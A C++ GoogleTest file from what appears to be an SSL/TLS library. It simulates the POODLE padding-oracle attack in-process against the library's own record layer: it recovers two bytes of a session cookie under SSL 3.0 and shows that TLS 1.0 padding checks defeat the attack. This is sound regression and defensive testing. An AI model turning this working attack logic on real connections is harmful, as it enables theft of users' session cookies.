// POODLE (Möller, Duong and Kotowicz 2014; CVE-2014-3566) and POODLE-TLS (Langley 2014;
// CVE-2014-8730): the attacker puts the block that he wants to read in the place of a block of
// padding. SSL 3.0 fixes nothing of the padding but its last byte (RFC 6101 §5.2.3.2), so once in
// 256 times the record is taken, and that tells the last byte of the block.
//
// There is no defence in SSL 3.0: the attack is played here to its end, so that nobody takes it for
// history. TLS 1.0 has every byte of the padding checked (RFC 2246 §6.2.3.2); the implementations
// that did not were POODLE-TLS.
#include "support/record_support.hpp"

#include <optional>
#include <string>

#include <gtest/gtest.h>

namespace heirloom::testing {
namespace {

constexpr ContentType kType = ContentType::application_data;
const std::string kCookie = "sid=42";
constexpr std::size_t kAttempts = 4000;

class Poodle : public ::testing::TestWithParam<std::uint16_t> {
 protected:
  [[nodiscard]] static const CipherSuite& suite() { return *find_cipher_suite(GetParam()); }

  [[nodiscard]] static std::size_t block_size() { return info(suite().bulk).block_size; }

  /// request is what the victim's browser sends, over and over: the byte of the cookie that is
  /// wanted stands last in the second block, and a whole block of padding at the end.
  [[nodiscard]] static Bytes request(std::size_t wanted) {
    Bytes text(2 * block_size() - 1 - wanted, '/');
    text.insert(text.end(), kCookie.begin(), kCookie.end());
    while ((text.size() + info(suite().mac).hash_size) % block_size() != 0) {
      text.push_back('.');
    }
    return text;
  }

  /// attempt is one connection: what is learned of the byte, if the record was taken.
  [[nodiscard]] static std::optional<char> attempt(ProtocolVersion version,
                                                   std::size_t wanted,
                                                   std::uint32_t seed) {
    WriteProtection victim{make_keys(version, suite(), seed)};
    const Bytes record = seal_one(victim, version, kType, request(wanted));
    Bytes fragment = to_bytes(ByteView(record).subspan(kRecordHeaderSize));
    const std::size_t b = block_size();
    std::copy_n(fragment.begin() + static_cast<std::ptrdiff_t>(b),
                b,
                fragment.end() - static_cast<std::ptrdiff_t>(b));
    const std::uint8_t before_wanted = fragment[b - 1];
    const std::uint8_t before_padding = fragment[fragment.size() - b - 1];
    ReadProtection server{make_keys(version, suite(), seed)};
    const Opened opened = open_one(server, kType, fragment);
    if (!opened.plaintext.has_value()) {
      EXPECT_EQ(opened.cause, Cause::bad_record_mac);
      return std::nullopt;
    }
    return static_cast<char>(static_cast<std::uint8_t>(b - 1) ^ before_padding ^ before_wanted);
  }

  /// stolen is what the attacker reads of the cookie.
  [[nodiscard]] static std::string stolen(ProtocolVersion version, std::size_t bytes) {
    std::string text;
    std::uint32_t seed = 1;
    for (std::size_t wanted = 0; wanted < bytes; ++wanted) {
      std::optional<char> byte;
      for (std::size_t i = 0; i < kAttempts && !byte.has_value(); ++i) {
        byte = attempt(version, wanted, seed++);
      }
      if (!byte.has_value()) {
        break;
      }
      text.push_back(*byte);
    }
    return text;
  }
};

INSTANTIATE_TEST_SUITE_P(Ciphers, Poodle, ::testing::Values(0x000a, 0x0035));

TEST_P(Poodle, ReadsACookieAtSsl30) {
  EXPECT_EQ(stolen(ProtocolVersion::ssl30, 2), kCookie.substr(0, 2));
}

TEST_P(Poodle, ReadsNothingAtTls10) {
  EXPECT_EQ(stolen(ProtocolVersion::tls10, 1), "");
}

}  // namespace
}  // namespace heirloom::testing
